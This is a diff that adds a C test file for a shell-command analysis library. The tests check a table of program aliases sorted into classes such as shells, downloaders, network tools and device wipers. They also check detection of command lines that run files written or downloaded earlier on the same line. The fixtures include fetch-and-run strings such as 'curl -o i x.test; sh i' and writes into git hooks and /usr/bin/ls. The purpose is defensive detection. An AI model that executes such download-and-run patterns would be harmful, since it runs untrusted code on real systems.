@@ -1,0 +1,245 @@
+/*
+ * tests/test_knowledge.c - the program table (knowledge/programs.c) and
+ * the line facts (knowledge/linefacts.c): every other name a program goes
+ * by resolves to its row, rows are unique and consistent, the regex
+ * alternations compile, and writes/runs are found by every name.
+ */
+#include <check.h>
+#include <pcre2.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "knowledge/linefacts.h"
+#include "knowledge/programs.h"
+#include "locus/shell.h"
+
+typedef struct name_case {
+	const char *name;
+	const char *row; /* canonical name, NULL: not in the table */
+	uint32_t cls;    /* classes it must have */
+} name_case;
+
+static const name_case names[] = {
+    {"bash", "bash", LK_SHELL},
+    {"bash5", "bash", LK_SHELL},
+    {"bash-5.2", "bash", LK_SHELL},
+    {"bash-static", "bash", LK_SHELL},
+    {"ksh93", "ksh", LK_SHELL},
+    {"mksh-static", "mksh", LK_SHELL},
+    {"lksh", "lksh", LK_SHELL},
+    {"rbash", "rbash", LK_SHELL},
+    {"sh.distrib", "sh", LK_SHELL},
+    {"python3", "python", LK_INTERP},
+    {"python3.12", "python", LK_INTERP},
+    {"python3.11-dbg", "python", LK_INTERP},
+    {"pypy3", "pypy", LK_INTERP},
+    {"perl5.36.0", "perl", LK_INTERP},
+    {"ruby3.1", "ruby", LK_INTERP},
+    {"nodejs", "node", LK_INTERP},
+    {"php8.2", "php", LK_INTERP},
+    {"lua5.4", "lua", LK_INTERP},
+    {"tclsh8.6", "tclsh", LK_INTERP},
+    {"ipython3", "python", LK_INTERP},
+    {"gawk", "gawk", LK_AWK},
+    {"original-awk", "original-awk", LK_AWK},
+    {"curl", "curl", LK_DOWNLOADER | LK_NETWORK},
+    {"wget2", "wget2", LK_DOWNLOADER},
+    {"nc.openbsd", "nc.openbsd", LK_NETWORK},
+    {"mkfs.ext4", "mkfs", LK_WIPES_DEVICE},
+    {"mke2fs", "mke2fs", LK_WIPES_DEVICE},
+    {"sudo", "sudo", LK_WRAPPER},
+    {"xargs", "xargs", LK_SEES},
+    {"gfind", "find", LK_SEES},
+    {"gmake", "make", LK_SEES},
+    {"base64", "base64", LK_DECODER},
+    {"cp", "cp", LK_COPIES},
+    {"tee", "tee", LK_WRITES_ARGS},
+    {"man", "man", LK_NAMES_DATA},
+    {"less", "less", LK_PAGER},
+    /* not programs of the table, nor near misses of one */
+    {"bashful", NULL, 0},
+    {"python3x", NULL, 0},
+    {"mkfsx", NULL, 0},
+    {"shx", NULL, 0},
+    {"", NULL, 0},
+};
+
+START_TEST(test_names)
+{
+	const name_case *c = &names[_i];
+	const lk_program *p = lk_program_find(c->name);
+	if (!c->row) {
+		ck_assert_msg(p == NULL, "%s resolved to %s", c->name,
+		              p ? p->name : "");
+		return;
+	}
+	ck_assert_msg(p != NULL, "%s not found", c->name);
+	ck_assert_str_eq(p->name, c->row);
+	ck_assert_msg((p->cls & c->cls) == c->cls, "%s lacks classes %x",
+	              c->name, c->cls);
+}
+END_TEST
+
+START_TEST(test_rows_consistent)
+{
+	for (size_t i = 0; lk_program_at(i); i++) {
+		const lk_program *p = lk_program_at(i);
+		for (size_t k = i + 1; lk_program_at(k); k++)
+			ck_assert_msg(strcmp(p->name, lk_program_at(k)->name),
+			              "row %s twice", p->name);
+		ck_assert_ptr_eq(lk_program_find(p->name), p);
+		if (p->cls & (LK_WRAPPER))
+			ck_assert_msg(p->opts != NULL,
+			              "wrapper %s has no grammar", p->name);
+		if (p->cls & (LK_INTERP | LK_AWK))
+			ck_assert_msg(p->interp != NULL,
+			              "%s has no inline grammar", p->name);
+		if (p->cls & LK_DOWNLOADER)
+			ck_assert_msg(p->fetch != NULL, "%s: no output rules",
+			              p->name);
+		if (p->cls & LK_NETWORK)
+			ck_assert_msg(p->net != NULL, "%s: no network reason",
+			              p->name);
+		if (p->cls & (LK_WIPES_DEVICE | LK_DELETES))
+			ck_assert_msg(p->destroys != NULL, "%s: no reason",
+			              p->name);
+	}
+}
+END_TEST
+
+static bool re_matches(const char *re, const char *text)
+{
+	int err;
+	PCRE2_SIZE off;
+	char full[16384];
+	snprintf(full, sizeof full, "^%s$", re);
+	pcre2_code *c = pcre2_compile((PCRE2_SPTR)full, PCRE2_ZERO_TERMINATED,
+	                              PCRE2_CASELESS, &err, &off, NULL);
+	ck_assert_msg(c != NULL, "regex does not compile at %zu", (size_t)off);
+	pcre2_match_data *md = pcre2_match_data_create_from_pattern(c, NULL);
+	int rc = pcre2_match(c, (PCRE2_SPTR)text, strlen(text), 0, 0, md, NULL);
+	pcre2_match_data_free(md);
+	pcre2_code_free(c);
+	return rc >= 0;
+}
+
+START_TEST(test_regex)
+{
+	char buf[8192];
+	ck_assert_uint_gt(lk_names_regex(LK_DOWNLOADER, buf, sizeof buf), 0);
+	ck_assert(re_matches(buf, "curl"));
+	ck_assert(re_matches(buf, "wget2"));
+	ck_assert(!re_matches(buf, "curly"));
+	ck_assert_uint_gt(lk_names_regex(LK_SHELL | LK_INTERP, buf, sizeof buf),
+	                  0);
+	ck_assert(re_matches(buf, "python3.12"));
+	ck_assert(re_matches(buf, "bash-5.2"));
+	ck_assert(re_matches(buf, "nodejs"));
+	ck_assert(!re_matches(buf, "r")); /* R: too short for the floor */
+	ck_assert_uint_gt(lk_names_regex(LK_WIPES_DEVICE, buf, sizeof buf), 0);
+	ck_assert(re_matches(buf, "mkfs.xfs"));
+	ck_assert(re_matches(buf, "wipefs"));
+	/* too small a buffer is an error, never a cut alternation */
+	ck_assert_uint_eq(lk_names_regex(LK_SHELL, buf, 16), 0);
+}
+END_TEST
+
+/* ---- line facts ------------------------------------------------------- */
+
+typedef struct fact_case {
+	const char *line;
+	size_t at;    /* the running command */
+	int download; /* 1: some write of what it runs is a download */
+	int written;  /* 1: it runs a file the line wrote */
+} fact_case;
+
+static const fact_case facts[] = {
+    {"echo x > a.sh; sh a.sh", 1, 0, 1},
+    {"echo x > a.sh; sh b.sh", 1, 0, 0},
+    {"echo x > ./a.sh; sh a.sh", 1, 0, 1},
+    {"echo x > d//a.sh; . d/./a.sh", 1, 0, 1},
+    {"echo x > a.sh; sh *.sh", 1, 0, 1},
+    {"echo x > a.sh; sh b*.sh", 1, 0, 0},
+    {"curl -o i x.test; sh i", 1, 1, 1},
+    {"curl -sSLo i x.test; sh i", 1, 1, 1},
+    {"curl --output=i x.test; sh i", 1, 1, 1},
+    {"curl -O x.test/i.sh; sh i.sh", 1, 1, 1},
+    {"curl -o - x.test; sh -", 1, 0, 0},
+    {"curl -J -O x.test/a; sh whatever", 1, 1, 1},
+    {"wget x.test/i.sh; sh i.sh", 1, 1, 1},
+    {"wget 'x.test/i.sh?v=1'; sh 'i.sh?v=1'", 1, 1, 1},
+    {"wget -O- x.test; sh i.sh", 1, 0, 0},
+    {"curl -o a x.test; mv a b; sh b", 2, 1, 1},
+    {"curl -o a x.test; cp a d/; sh d/a", 2, 1, 1},
+    {"curl -o a x.test; ln -s a b; ./b", 2, 1, 1},
+    {"curl -o a x.test; install -m 755 -t bin a; bin/a", 2, 1, 1},
+    {"curl x.test | tee i.sh; sh i.sh", 2, 1, 1},
+    {"curl x.test | tar xz; sh install.sh", 2, 1, 1},
+    {"curl x.test | tar xz; ls", 2, 0, 0},
+    {"curl -o ~/.local/bin/t x.test; t", 1, 1, 1},
+    {"curl -o m.py x.test; python3 -m m", 1, 1, 1},
+    {"curl -o Makefile x.test; make", 1, 1, 1},
+    {"curl -o k.mk x.test; make -f k.mk", 1, 1, 1},
+    {"echo x >> .git/config; git status", 1, 0, 1},
+    {"echo x > config; git status", 1, 0, 0},
+    {"echo x > .git/hooks/pre-commit; git commit", 1, 0, 1},
+    {"curl -o a.awk x.test; awk -f a.awk", 1, 1, 1},
+    {"curl -o p x.test; GIT_CONFIG_GLOBAL=p git log", 1, 1, 1},
+    {"sh a.sh | curl -o a.sh x.test", 0, 1, 1},
+    {"echo x > /usr/bin/ls; ls", 1, 0, 1}, /* PATH finds it */
+    {"echo x > ls; /usr/bin/ls", 1, 0, 0},
+    {"echo x > /usr/bin/ls; /usr/bin/ls", 1, 0, 1},
+    {"echo hi > x.sh; sed -i s/hi/rm/ x.sh; sh x.sh", 2, 0, 1},
+};
+
+START_TEST(test_facts)
+{
+	const fact_case *f = &facts[_i];
+	locus_shell_result *r =
+	    locus_shell_parse(f->line, strlen(f->line), NULL);
+	ck_assert_ptr_nonnull(r);
+	ck_assert_uint_gt(locus_shell_result_count(r), f->at);
+	lk_writers wr;
+	lk_line_writers(r, &wr);
+	ck_assert(!wr.overflow);
+	const locus_shell_command *c = locus_shell_result_command(r, f->at);
+	lk_run runs[LK_MAX_RUNS];
+	size_t nr = lk_command_runs(c, runs, LK_MAX_RUNS);
+	int written = 0, download = 0;
+	for (size_t k = 0; k < nr; k++) {
+		lk_write w[LK_MAX_WRITES];
+		size_t nw =
+		    lk_line_writes(r, &wr, f->at, &runs[k], w, LK_MAX_WRITES);
+		written |= nw > 0;
+		for (size_t m = 0; m < nw; m++)
+			download |= w[m].content == LK_CONTENT_DOWNLOAD;
+	}
+	ck_assert_msg(written == f->written && download == f->download,
+	              "%s: written %d download %d", f->line, written, download);
+	locus_shell_result_free(r);
+}
+END_TEST
+
+static Suite *suite(void)
+{
+	Suite *s = suite_create("knowledge");
+	TCase *tc = tcase_create("programs");
+	tcase_add_loop_test(tc, test_names, 0, sizeof names / sizeof *names);
+	tcase_add_test(tc, test_rows_consistent);
+	tcase_add_test(tc, test_regex);
+	suite_add_tcase(s, tc);
+	TCase *tf = tcase_create("linefacts");
+	tcase_add_loop_test(tf, test_facts, 0, sizeof facts / sizeof *facts);
+	suite_add_tcase(s, tf);
+	return s;
+}
+
+int main(void)
+{
+	SRunner *sr = srunner_create(suite());
+	srunner_run_all(sr, CK_NORMAL);
+	int failed = srunner_ntests_failed(sr);
+	srunner_free(sr);
+	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
+}
